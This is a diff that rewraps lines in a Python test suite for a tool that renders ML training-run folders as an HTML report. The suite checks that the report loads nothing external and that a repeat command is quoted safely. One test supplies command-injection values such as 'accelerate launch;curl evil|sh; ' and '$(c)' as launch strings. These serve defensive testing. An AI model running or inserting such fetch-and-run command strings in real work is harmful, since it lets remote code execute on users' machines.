@@ -45,7 +45,13 @@ def made(folder: Path, **files: object) -> Path:
     """A run folder with these files, beside those of a run of 40 steps."""
     folder.mkdir(parents=True, exist_ok=True)
     rows = [
-        {"step": step, "train/loss": 1 / step, "train/lr": 0.1, "perf/images_per_second": 50.0, "eval/top1": step / 100}
+        {
+            "step": step,
+            "train/loss": 1 / step,
+            "train/lr": 0.1,
+            "perf/images_per_second": 50.0,
+            "eval/top1": step / 100,
+        }
         for step in range(10, 41, 10)
     ]
     contents = {
@@ -64,7 +70,10 @@ def made(folder: Path, **files: object) -> Path:
 
 def test_names_are_text_and_nothing_is_loaded_from_elsewhere(tmp_path: Path) -> None:
     best = {"step": 10, "eval/top1": 0.5, f"eval/{EVIL}": 0.5}
-    facts = dict.fromkeys(("command", "recipe", "commit"), EVIL) | {"packages": {EVIL: EVIL}, "ranks": [EVIL]}
+    facts = dict.fromkeys(("command", "recipe", "commit"), EVIL) | {
+        "packages": {EVIL: EVIL},
+        "ranks": [EVIL],
+    }
     files = {
         "best/results.json": {"top1": 0.5, "per_class": {EVIL: 0.5, "b": 1.0}},
         "summary.json": {"step": 40, "best": best, "last": best},
@@ -83,33 +92,53 @@ def test_names_are_text_and_nothing_is_loaded_from_elsewhere(tmp_path: Path) -> 
     assert all(image["src"].startswith("data:image/") for image in images)
     assert [image["alt"] for image in images] == ["loss, leading result, learning rate", "<i>x"]
     for tag, attributes in page.elements:
-        assert tag not in ("script", "link", "iframe", "base", "object") and attributes.get("href") is None
+        assert (
+            tag not in ("script", "link", "iframe", "base", "object")
+            and attributes.get("href") is None
+        )
         assert not {"onerror", "onclick", "srcset"} & attributes.keys()
-    policy = next(attributes for _, attributes in page.elements if attributes.get("http-equiv"))["content"]
+    policy = next(attributes for _, attributes in page.elements if attributes.get("http-equiv"))[
+        "content"
+    ]
     assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
 
 
 def test_a_killed_run_has_a_page_of_its_rows_and_its_log(tmp_path: Path) -> None:
-    facts = {"command": "recipes/cls.py --lr 1", "launch": "torchrun recipes/cls.py --lr 1", "recipe": "recipes/cls.py"}
+    facts = {
+        "command": "recipes/cls.py --lr 1",
+        "launch": "torchrun recipes/cls.py --lr 1",
+        "recipe": "recipes/cls.py",
+    }
     status = {"status": "running", "step": 10, "cause": ""}
     folder = made(tmp_path / "a", **{"status.json": status, "environment.json": facts})
     with (folder / "metrics.jsonl").open("a") as rows:
         rows.write('{"step": 50, "train/lo')
     page = Page(folder)
-    assert "running at step 10 (or killed)" in page.text and "best top-1, step 40 40.00 %" in page.text
+    assert (
+        "running at step 10 (or killed)" in page.text and "best top-1, step 40 40.00 %" in page.text
+    )
     text = html.unescape(page.source)
-    assert "10:00:05  can't be read, a stand-in takes its place: cat.jpg" in text and "step 10/40" not in text
+    assert (
+        "10:00:05  can't be read, a stand-in takes its place: cat.jpg" in text
+        and "step 10/40" not in text
+    )
     assert f"torchrun recipes/cls.py --config {folder / 'config.yaml'} --name a-again" in page.text
     assert (folder / "pictures/curves.png").is_file()
     with pytest.raises(Refused, match="is no run folder"):
         write(tmp_path)
 
 
-@pytest.mark.parametrize("content", ["\0\xff[[[", '{"best": 3, "step": "x", "status": [], "ranks": 7}'])
+@pytest.mark.parametrize(
+    "content", ["\0\xff[[[", '{"best": 3, "step": "x", "status": [], "ranks": 7}']
+)
 def test_a_damaged_file_costs_its_own_part_at_most(tmp_path: Path, content: str) -> None:
     for name in ("metrics.jsonl", "config.yaml", "status.json", "log.txt", "summary.json"):
         page = Page(made(tmp_path / name, **{name: content, "environment.json": content}))
-        others = {"metrics.jsonl": "<img", "log.txt": "resuming from step 10 of 40", "summary.json": "best top-1"}
+        others = {
+            "metrics.jsonl": "<img",
+            "log.txt": "resuming from step 10 of 40",
+            "summary.json": "best top-1",
+        }
         assert all(said in page.source for file, said in others.items() if file != name), name
 
 
@@ -117,12 +146,18 @@ def test_classes_are_listed_lowest_first(tmp_path: Path) -> None:
     results = {"f1": 0.5, "per_class": {"a": 0.5, "b": 0.0, "c": None}, "odd": {"a": "x"}}
     results |= {"thresholds": dict.fromkeys("abc", 0.125), "threshold": 0.5}
     results["classes"] = {name: {"images": 4, "f1": 0.5, "threshold": 0.125} for name in "abc"}
-    folder = made(tmp_path / "a", **{"best/results.json": results, "metrics.jsonl": None, "summary.json": None})
+    folder = made(
+        tmp_path / "a",
+        **{"best/results.json": results, "metrics.jsonl": None, "summary.json": None},
+    )
     (folder / "pictures").mkdir()
     for name in ("pictures/errors.png", "metrics.jsonl", "summary.json", "environment.json"):
         os.mkfifo(folder / name)
     page = Page(folder)
-    assert "class F1 images threshold b 0.00 % 4 12.50 % a 50.00 % 4 12.50 % c - 4 12.50 %" in page.text
+    assert (
+        "class F1 images threshold b 0.00 % 4 12.50 % a 50.00 % 4 12.50 % c - 4 12.50 %"
+        in page.text
+    )
     for said in ("errors.png: can't be shown", "metrics.jsonl: not a regular file"):
         assert said in page.text
 
@@ -130,9 +165,21 @@ def test_classes_are_listed_lowest_first(tmp_path: Path) -> None:
 def test_the_command_to_repeat_is_one_command(tmp_path) -> None:
     (tmp_path / "status.json").write_text("{}")
     typed = "cls.py --epochs 3"
-    for launch in ("accelerate launch --num_processes 2 ", "accelerate launch;curl evil|sh; ", "a 'b $(c) ", "`x` "):
+    for launch in (
+        "accelerate launch --num_processes 2 ",
+        "accelerate launch;curl evil|sh; ",
+        "a 'b $(c) ",
+        "`x` ",
+    ):
         facts = {"command": typed, "launch": launch + typed, "recipe": "mine.py; x"}
         (tmp_path / "environment.json").write_text(json.dumps(facts))
         words = shlex.split(PastRun(tmp_path).repeat_command)
         config = str(tmp_path / "config.yaml")
-        assert words == [*launch.split(), "mine.py; x", "--config", config, "--name", f"{tmp_path.name}-again"]
+        assert words == [
+            *launch.split(),
+            "mine.py; x",
+            "--config",
+            config,
+            "--name",
+            f"{tmp_path.name}-again",
+        ]
